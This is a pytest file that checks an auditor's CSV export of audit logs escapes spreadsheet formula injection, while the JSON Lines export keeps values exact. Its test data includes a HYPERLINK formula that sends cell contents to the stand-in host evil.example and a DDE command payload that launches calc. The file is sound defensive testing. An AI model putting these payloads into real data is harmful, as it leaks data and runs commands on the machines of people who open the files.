"""The auditor's CSV export is safe to open in a spreadsheet; JSON Lines stay exact."""

from __future__ import annotations

import csv
import io
import json

import pytest

from eakte.services.audit_queries import spreadsheet_safe
from tests.web.support import sign_in

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
HOSTILE_NAMES = [FORMULA, "+SUM(1,2)", "-2+3", "@SUM(1)"]  # the form strips tabs and CRs


def test_a_hostile_username_is_neutralised_in_the_csv_and_exact_in_json_lines(app, town):
    browser = app.test_client()
    for name in HOSTILE_NAMES:
        assert sign_in(browser, name, "falsch-falsch-falsch").status_code == 401
    token_use = town.anna.client.get(
        "/api/v1/case-files", headers={"Authorization": "Bearer =cmd|' /C calc'!A0"}
    )
    assert token_use.status_code == 401

    exported = town.audrey.get("/audit/export?format=csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.data.decode())))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
    denied = [row for row in rows if row["action"] == "auth.sign_in" and row["outcome"] == "denied"]
    assert {row["object_id"] for row in denied} >= {"'" + name for name in HOSTILE_NAMES}

    lines = town.audrey.get("/audit/export?format=jsonl").data.decode().splitlines()
    names = {json.loads(line)["object_id"] for line in lines}
    assert set(HOSTILE_NAMES) <= names  # the exact record for verification
    assert "calc" not in exported.data.decode()  # a presented token is never logged


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+49 711 1234", "'+49 711 1234"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("anna", "anna"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_spreadsheet_safe(value: object, cell: object) -> None:
    assert spreadsheet_safe(value) == cell
